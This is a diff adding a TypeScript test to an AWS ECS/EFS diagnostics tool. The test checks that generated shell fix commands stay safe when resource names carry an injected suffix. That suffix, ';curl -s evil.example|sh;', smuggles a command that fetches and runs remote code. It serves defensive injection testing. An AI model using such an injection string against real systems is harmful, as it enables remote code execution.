@@ -16,7 +16,12 @@ import {MAX_TEMPLATE_BYTES} from '../../src/core/input-file.js'
 import {ssmRun} from '../../src/checks/_lib/host.js'
 import {snippetCommand} from '../../src/checks/_lib/user-data-check.js'
 import type {Report} from '../../src/core/types.js'
-import {healthy, withFault} from '../support/snapshot-builder.js'
+import {healthy, IDS, withFault} from '../support/snapshot-builder.js'
+import {awsvpcWorker, FAULTS, faulty, TASK_SG} from '../support/faults.js'
+import {withHostFault} from '../support/host-facts.js'
+import {allChecks} from '../../src/checks/index.js'
+import {runChecks} from '../../src/core/run-checks.js'
+import type {Snapshot} from '../../src/model/snapshot.js'
 import {expectOneLineExit2, runCommand} from '../support/run-command.js'
 import {bounded} from './bounded.js'
 import {wordsBashSees} from '../support/bash-words.js'
@@ -131,5 +136,45 @@ describe('item 13: ids named like Object.prototype members', () => {
       expect(f.fix?.command ?? '').not.toMatch(/undefined/)
     }
     expect(report.findings.some(f => f.message.includes('constructor'))).toBe(true)
+  })
+})
+
+describe('item 10: fix commands built from hostile ids and names', () => {
+  const EVIL = ';curl -s evil.example|sh;'
+  /** `s` with the cluster, the security groups, the services and one instance renamed `<name>;curl …|sh;` everywhere. */
+  const hostile = (s: Snapshot): Snapshot => {
+    let text = JSON.stringify(s)
+    for (const name of ['prod', IDS.hostSg, IDS.efsSg, TASK_SG, 'worker', IDS.instances[0]]) text = text.replaceAll(name, `${name}${EVIL}`)
+    return JSON.parse(text) as Snapshot
+  }
+  const scenarios: Record<string, Snapshot> = {
+    ...Object.fromEntries(Object.keys(FAULTS).map(name => [name, faulty(name)])),
+    'no egress on the host group': withFault(x => { x.securityGroups![IDS.hostSg].egress = [] }),
+    'a task security group without egress': withFault(x => { awsvpcWorker(x, {admitted: true}); x.securityGroups![TASK_SG].egress = [] }),
+    'a container instance draining': withFault(x => { x.containerInstances![0].status = 'DRAINING' }),
+    'Fargate 1.3.0 with an EFS volume': withFault(x => {
+      awsvpcWorker(x, {admitted: true})
+      Object.assign(x.services!.find(v => v.name === 'worker')!, {launchType: 'FARGATE', platformVersion: '1.3.0'})
+      const td = x.taskDefinitions!.find(t => t.family === 'prod-worker')!
+      td.volumes = [{name: 'efs', efsVolumeConfiguration: {fileSystemId: IDS.fs, transitEncryption: 'ENABLED'}}]
+    }),
+    'a host without its mount': withHostFault(f => { f.mounts = []; f.fstab = [] }),
+  }
+
+  it('bash runs only the words shown: the hostile part stays inside its word', () => {
+    const commands = new Map<string, string[]>()
+    for (const [name, s] of Object.entries(scenarios)) {
+      for (const f of runChecks(allChecks, hostile(s)).findings) {
+        if (f.fix?.command) commands.set(f.checkId, [...commands.get(f.checkId) ?? [], `${name}: ${f.fix.command}`])
+      }
+    }
+    // The fixes that once interpolated these values unquoted are all exercised.
+    for (const id of ['network/client-sg-egress-nfs', 'ecs/container-instances-healthy', 'host/efs-mounted']) expect([id, commands.has(id)]).toEqual([id, true])
+    for (const [id, list] of commands) {
+      for (const line of list) {
+        const command = line.slice(line.indexOf(': ') + 2).replace(/\s+#.*$/, '')
+        for (const call of wordsBashSees(command)) expect([id, line, call[0]]).not.toEqual([id, line, 'curl'])
+      }
+    }
   })
 })
